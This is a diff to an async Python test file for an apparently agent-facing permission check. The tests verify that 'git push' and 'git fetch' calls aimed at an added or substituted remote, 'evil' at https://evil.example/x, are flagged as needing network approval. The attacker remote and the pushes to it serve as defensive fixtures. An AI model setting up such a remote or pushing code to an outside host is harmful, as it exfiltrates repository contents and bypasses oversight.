@@ -179,9 +179,25 @@ async def test_other_changes_of_the_configuration_do_not_matter(developer: Devel
     git(developer.root, "push", "-qu", "origin", "feature")
     git(developer.root, "remote", "add", "evil", "https://evil.example/x")
     assert await developer.decision("git push origin feature") == "unasked"
-    # Without a name it may be any of them.
-    assert await developer.decision("git push") == "network"
+    git(developer.root, "config", "log.date", "iso")
+    assert await developer.decision("git push") == "unasked"
     assert await developer.decision("git push evil") == "network"
+    assert await developer.decision("git fetch --all") == "network"
+
+
+async def test_a_branch_that_follows_a_new_remote_asks(developer: Developer) -> None:
+    git(developer.root, "remote", "add", "evil", "https://evil.example/x")
+    git(developer.root, "config", "branch.main.remote", "evil")
+    assert await developer.decision("git push") == "network"
+
+
+async def test_a_remote_that_took_the_place_of_another_asks(developer: Developer) -> None:
+    git(developer.root, "remote", "remove", "origin")
+    git(developer.root, "remote", "add", "evil", "https://evil.example/x")
+    for command in ("git push", "git push origin", "git push evil"):
+        assert await developer.decision(command) == "network"
+    git(developer.root, "remote", "rename", "evil", "origin")
+    assert await developer.decision("git push") == "network"
 
 
 async def test_other_repositories_in_the_project_ask(developer: Developer) -> None:
